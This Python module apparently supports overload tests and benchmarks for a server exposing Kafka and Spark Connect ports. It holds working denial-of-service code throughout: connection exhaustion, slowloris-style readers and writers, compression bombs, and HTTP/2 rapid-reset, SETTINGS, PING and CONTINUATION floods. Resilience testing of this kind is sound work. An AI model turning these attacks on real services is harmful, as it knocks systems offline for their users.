"""attack: clients that mean ill, for overload.py (the test) and bench/overload.py (the numbers).

Each attack is a function of the server and a stop event; it goes on until the event is set and returns what it has to report.
The honest client beside them, `Honest`, produces a record and reads it back, again and again, over a connection of its own.
"""

import functools
import resource
import select
import socket
import struct
import threading
import time
import uuid

CRC_TABLE = []
for n in range(256):
    for _ in range(8):
        n = n >> 1 ^ 0x82F63B78 if n & 1 else n >> 1
    CRC_TABLE.append(n)


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc = crc >> 8 ^ CRC_TABLE[(crc ^ byte) & 255]
    return crc ^ 0xFFFFFFFF


def raise_file_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def dial(address, timeout=20):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=timeout)


# -- Kafka's protocol, by hand ------------------------------------------------------------------------------------------


def frame(body):
    return struct.pack(">i", len(body)) + body


def header(key, version, correlation=1, client=b"overload"):
    return struct.pack(">hhih", key, version, correlation, len(client)) + client


def read_exactly(s, n):
    out = bytearray()
    while len(out) < n:
        piece = s.recv(min(n - len(out), 1 << 20))
        if not piece:
            raise ConnectionError("the server closed the connection")
        out += piece
    return bytes(out)


def read_frame(s):
    return read_exactly(s, struct.unpack(">i", read_exactly(s, 4))[0])


def varint(n):
    n = n << 1 ^ n >> 63
    out = bytearray()
    while n > 127:
        out.append(n & 127 | 128)
        n >>= 7
    out.append(n)
    return bytes(out)


def batch(value, records=1):
    """An uncompressed batch of equal records."""
    body = b"\0" + varint(0) + varint(0) + varint(-1) + varint(len(value)) + value + varint(0)
    return wrap(b"".join((varint(len(body)) + body) for _ in range(records)), records, 0)


def wrap(records_bytes, records, codec):
    now = int(time.time() * 1000)
    rest = struct.pack(">hiqqqhii", codec, records - 1, now, now, -1, -1, -1, records) + records_bytes
    return struct.pack(">qiibI", 0, 9 + len(rest), -1, 2, crc32c(rest)) + rest


def produce(topic, batch_bytes, acks=1):
    name = topic.encode()
    body = struct.pack(">hhii", -1, acks, 10000, 1) + struct.pack(">h", len(name)) + name
    return frame(header(0, 3) + body + struct.pack(">iii", 1, 0, len(batch_bytes)) + batch_bytes)


def produce_code(answer):
    at = 4 + 4 + 2 + struct.unpack_from(">h", answer, 8)[0] + 4 + 4
    return struct.unpack_from(">hq", answer, at)


def fetch(topic, offset, most=50 << 20, wait_ms=500):
    name = topic.encode()
    body = struct.pack(">iiiibi", -1, wait_ms, 1, most, 0, 1) + struct.pack(">h", len(name)) + name
    return frame(header(1, 4) + body + struct.pack(">iiqi", 1, 0, offset, most))


def fetch_bytes(answer):
    """Error code, high watermark and length of the records of the one partition."""
    at = 4 + 4 + 4 + 2 + struct.unpack_from(">h", answer, 12)[0] + 4 + 4
    code, high, _, aborted = struct.unpack_from(">hqqi", answer, at)
    at += 22 + max(aborted, 0) * 16
    return code, high, struct.unpack_from(">i", answer, at)[0]


def create(address, topic):
    name = topic.encode()
    with dial(address) as s:
        s.sendall(frame(header(19, 2) + struct.pack(">ih", 1, len(name)) + name + struct.pack(">ihiiib", 1, 1, 0, 0, 10000, 0)))
        read_frame(s)


class Honest:
    """One record in, the same record out, by turns; how long each turn took."""

    def __init__(self, address, topic="honest"):
        self.topic, self.address, self.turns_ms, self.socket = topic, address, [], None
        self.batch = batch(b"x" * 100)

    def turn(self):
        if self.socket is None:
            self.socket = dial(self.address, 30)
        begin = time.perf_counter()
        self.socket.sendall(produce(self.topic, self.batch))
        code, offset = produce_code(read_frame(self.socket))
        if code:
            raise AssertionError(f"an honest record was refused: code {code}")
        while True:
            self.socket.sendall(fetch(self.topic, offset, 1 << 20))
            code, high, n = fetch_bytes(read_frame(self.socket))
            if code:
                raise AssertionError(f"an honest fetch was refused: code {code}")
            if n > 0 and high > offset:
                break
        self.turns_ms.append((time.perf_counter() - begin) * 1000)


def percentile(values, p):
    values = sorted(values)
    return values[min(len(values) - 1, int(len(values) * p))] if values else float("nan")


# -- attacks on Kafka's port --------------------------------------------------------------------------------------------


def idle(server, stop, count=10000):
    """Connections to every port that say nothing, or once something, and stay."""
    held = []
    hello = ((server.kafka, b""), (server.kafka, frame(header(18, 0))), (server.connect, b""),
             (server.connect, PREFACE + h2(SETTINGS, 0, 0)), (server.http, b"GET /livez HTTP/1.1\r\nHost: x\r\n"))
    try:
        for i in range(count):
            address, first = hello[i % len(hello)]
            s = dial(address)
            if first:
                s.sendall(first)
            held.append(s)
        stop.wait()
        return f"{len(held)} connections"
    finally:
        for s in held:
            s.close()


def slow_readers(server, stop, count=60, topic="big"):
    """Each asks for a lot again and again and reads nothing."""
    held = []
    ask = fetch(topic, 0) * 40
    try:
        while not stop.is_set():
            if len(held) < count:
                s = dial(server.kafka)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                s.sendall(ask)
                held.append(s)
            else:
                stop.wait(0.2)
        return f"{len(held)} readers"
    finally:
        for s in held:
            s.close()


def slow_writers(server, stop, count=400, head=1 << 20):
    """Each begins a frame of 20 MiB, sends a part at once and then some bytes now and then."""
    held, cut = [], 0
    part = b"\0" * head
    try:
        while not stop.is_set():
            if len(held) < count:
                s = dial(server.kafka)
                s.setblocking(False)
                send_some(s, struct.pack(">i", 20 << 20) + part)
                held.append(s)
                continue
            for s in list(held):
                if send_some(s, b"\0" * 2000) is None:
                    held.remove(s)
                    s.close()
                    cut += 1
            stop.wait(0.2)
        return f"{cut} writers were cut off"
    finally:
        for s in held:
            s.close()


def send_some(s, data):
    """What the socket takes at once; None when the server has closed it."""
    try:
        return s.send(data)
    except BlockingIOError:
        return 0
    except OSError:
        return None


def big_frames(server, stop, connections=4):
    """Whole frames at the limit: a Produce of one batch as large as a frame may be, and a Metadata request of millions of names."""
    large = produce("honest", b"\0" * (server.longest - 200))
    names = frame(header(3, 1) + struct.pack(">i", 20_000_000) + b"\0" * 40_000_000)
    done = 0
    held = [dial(server.kafka) for _ in range(connections)]
    try:
        while not stop.is_set():
            for i in range(connections):
                if stop.is_set():
                    break
                try:
                    held[i].sendall(large if i % 2 else names)
                    if i % 2:
                        read_frame(held[i])
                    done += 1
                except OSError:
                    held[i].close()
                    held[i] = dial(server.kafka)
        return f"{done} frames"
    finally:
        for s in held:
            s.close()


@functools.cache
def bomb_requests():
    """Batches of at most a megabyte that unpack to hundreds of them, of every codec."""
    import pyarrow

    sizes = {"gzip": (1, 256 << 20), "snappy": (2, 20 << 20), "lz4": (3, 200 << 20), "zstd": (4, 512 << 20)}
    batches = [wrap(pyarrow.Codec(name).compress(b"\0" * n, asbytes=True), 1, codec) for name, (codec, n) in sizes.items()]
    assert all(len(b) < 1048000 for b in batches)
    return [produce("honest", b) for b in batches]


def bombs(server, stop, connections=2):
    """One after the other, over and over."""
    requests = bomb_requests()
    sent, refused = 0, 0
    held = [dial(server.kafka, 60) for _ in range(connections)]
    try:
        while not stop.is_set():
            for s in held:
                s.sendall(requests[sent % len(requests)])
                sent += 1
            for s in held:
                refused += produce_code(read_frame(s))[0] != 0
        return f"{sent} bombs of {len(requests)} kinds, {refused} refused"
    finally:
        for s in held:
            s.close()


# -- attacks on Spark Connect's port: HTTP/2 by hand --------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST, SETTINGS, PING, CONTINUATION, DATA, WINDOW = 1, 3, 4, 6, 9, 0, 8


def h2(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def text(name, value):
    """A header field, literal, without indexing."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = (b"\x83\x86" + text(b":path", b"/spark.connect.SparkConnectService/ExecutePlan") + text(b":authority", b"x") +
        text(b"content-type", b"application/grpc") + text(b"te", b"trailers"))


def flood(server, stop, make, connections=4, read=True):
    """`make(n)` is the n-th piece of the flood; a connection that the server ends is opened again."""
    held, sent, cut = {}, 0, 0
    turn = 0
    while not stop.is_set():
        while len(held) < connections:
            s = dial(server.connect)
            s.sendall(PREFACE + h2(SETTINGS, 0, 0))
            s.setblocking(False)
            held[s] = [1, b""]
        readable, writable, _ = select.select(list(held) if read else [], list(held), [], 0.2)
        for s in readable:
            try:
                if not s.recv(1 << 16):
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                held.pop(s, None)
                s.close()
                cut += 1
        for s in writable:
            if s not in held:
                continue
            state = held[s]
            if not state[1]:
                state[0], state[1] = make(state[0])
            n = send_some(s, state[1])
            if n is None:
                held.pop(s)
                s.close()
                cut += 1
                continue
            state[1] = state[1][n:]
            sent += n
        turn += 1
    for s in held:
        s.close()
    return f"{sent >> 20} MiB sent, {cut} connections ended by the server"


def rapid_reset(server, stop):
    def make(stream):
        ids = range(stream, stream + 400, 2)
        return stream + 400, b"".join(h2(HEADERS, 4, i, CALL) + h2(RST, 0, i, struct.pack(">I", 8)) for i in ids)
    return flood(server, stop, make)


def settings_flood(server, stop):
    piece = h2(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000
    return flood(server, stop, lambda n: (n, piece), read=False)


def ping_flood(server, stop):
    piece = h2(PING, 0, 0, b"12345678") * 1000
    return flood(server, stop, lambda n: (n, piece), read=False)


def continuation_flood(server, stop):
    more = h2(CONTINUATION, 0, 1, text(b"x-a", b"b" * 100) * 100) * 10

    def make(n):
        return n + 1, more if n > 1 else h2(HEADERS, 0, 1, CALL)
    return flood(server, stop, make)


def frames_of(s, data):
    """The HTTP/2 frames that have come, and what is left of `data`."""
    out = []
    while len(data) >= 9:
        n = int.from_bytes(data[:3], "big")
        if len(data) < 9 + n:
            break
        out.append((data[3], int.from_bytes(data[5:9], "big"), data[9:9 + n]))
        data = data[9 + n:]
    return out, data


def unfinished_messages(server, stop, connections=8, streams=4):
    """Every stream announces a message of 128 MiB and sends of it what the server's windows let through."""
    piece, announce = b"\0" * 16000, b"\0" + struct.pack(">I", (128 << 20) - 1)
    sent = ended = 0

    def one():
        """A connection: the bytes it may send per stream are handed out as WINDOW_UPDATE frames come."""
        nonlocal sent
        with dial(server.connect) as s:
            ids = range(1, 2 * streams, 2)
            s.sendall(PREFACE + h2(SETTINGS, 0, 0) + h2(SETTINGS, 1, 0) +
                      b"".join(h2(HEADERS, 4, i, CALL) + h2(DATA, 0, i, announce) for i in ids))
            s.recv(1 << 16)  # its settings: windows of 1 MiB, and 16 MiB for all
            window, all_of_it, rest = {i: 1 << 20 for i in ids}, 15 << 20, b""
            while not stop.is_set() and window:
                for i in window:
                    while window[i] >= 16000 and all_of_it >= 16000:
                        s.sendall(h2(DATA, 0, i, piece))
                        window[i] -= 16000
                        all_of_it -= 16000
                        sent += 16000
                if not select.select([s], [], [], 0.2)[0]:
                    continue
                got = s.recv(1 << 16)
                if not got:
                    return
                for kind, stream, body in frames_of(s, rest + got)[0]:
                    if kind == WINDOW and stream in window:
                        window[stream] += int.from_bytes(body, "big")
                    elif kind == WINDOW and stream == 0:
                        all_of_it += int.from_bytes(body, "big")
                    elif kind in (RST, HEADERS):
                        window.pop(stream, None)
                rest = frames_of(s, rest + got)[1]

    def again():
        nonlocal ended
        while not stop.is_set():
            try:
                one()
            except OSError:
                pass
            ended += not stop.is_set()
    threads = [threading.Thread(target=again) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return f"{sent >> 20} MiB sent, {ended} connections gave up or were ended"


def connect_slow_readers(server, stop, count=40):
    """Executions with gigabytes of result that nobody reads."""
    import grpc
    from pyspark.sql.connect.proto import base_pb2, base_pb2_grpc

    query = "SELECT id, repeat('x', 1000) AS text FROM range(100000000)"
    held = []
    while not stop.is_set():
        if len(held) < count:
            channel = grpc.insecure_channel(server.connect, [("grpc.max_receive_message_length", -1),
                                                             ("grpc.use_local_subchannel_pool", 1)])
            stub = base_pb2_grpc.SparkConnectServiceStub(channel)
            request = base_pb2.ExecutePlanRequest(session_id=str(uuid.uuid4()))
            request.user_context.user_id = "slow"
            request.plan.root.sql.query = query
            answer = stub.ExecutePlan(request)
            held.append((channel, answer))
        else:
            stop.wait(0.2)
    for channel, answer in held:
        answer.cancel()
        channel.close()
    return f"{len(held)} executions"


def half_open(server, stop, count=500):
    """Connections that end without a word of the peer: reset in the middle of a frame, over and over."""
    done = 0
    while not stop.is_set():
        for address in (server.kafka, server.connect, server.http):
            s = dial(address)
            s.send(struct.pack(">i", 1 << 20) + b"x" * 5000)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            s.close()
            done += 1
    return f"{done} connections"


ATTACKS = {
    "idle": idle, "slow_readers": slow_readers, "slow_writers": slow_writers, "big_frames": big_frames, "bombs": bombs,
    "rapid_reset": rapid_reset, "settings_flood": settings_flood, "ping_flood": ping_flood,
    "continuation_flood": continuation_flood, "unfinished_messages": unfinished_messages,
    "connect_slow_readers": connect_slow_readers, "half_open": half_open,
}
